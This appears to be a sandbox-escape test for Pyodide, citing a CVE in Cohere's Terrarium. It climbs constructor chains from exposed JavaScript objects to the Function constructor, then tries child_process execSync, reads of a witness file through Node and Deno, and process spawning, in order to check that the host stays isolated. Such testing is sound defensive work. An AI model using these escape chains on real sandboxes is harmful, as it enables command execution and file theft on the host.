# Climbs from every object of JavaScript's that Python is given to the Function constructor, and from there to
# the host's require, process and Deno.
# Known from: Cohere's Terrarium, CVE-2026-5752 (js.document.constructor.constructor).
# expect: success
import js
import pyodide_js

LOOK = """
const found = [];
for (const name of ["require", "process", "Deno", "__bootstrap", "module", "Bun"]) {
  if (typeof globalThis[name] !== "undefined") found.push(name);
}
for (const ask of [
  () => require("child_process").execSync("id").toString(),
  () => process.mainModule.require("fs").readFileSync("{{WITNESS}}", "utf8"),
  () => process.binding("spawn_sync"),
  () => Deno.readTextFileSync("{{WITNESS}}"),
  () => new Deno.Command("id").outputSync(),
]) {
  try {
    found.push(String(ask()));
  } catch {}
}
return found.join();
"""


def climb(start, path):
    for name in path:
        start = getattr(start, name)
    return start


starts = {"js": js, "pyodide_js": pyodide_js, "module": pyodide_js._module, "FS": pyodide_js.FS}
for name in ("document", "ImageData", "console", "crypto", "performance", "fetch", "setTimeout", "window", "self"):
    if hasattr(js, name):
        starts[name] = getattr(js, name)
reached = 0
for name, start in starts.items():
    for path in (
        ["constructor", "constructor"],
        ["__proto__", "constructor", "constructor"],
        ["toString", "constructor"],
        ["valueOf", "constructor"],
    ):
        try:
            function = climb(start, path).new(LOOK)
            found = function()
        except BaseException as error:
            print(name, path, type(error).__name__, str(error)[:60])
            continue
        reached += 1
        if found:
            print("ESCAPED:", name, path, found)
print(reached, "ways to a Function constructor, which has nothing behind it")
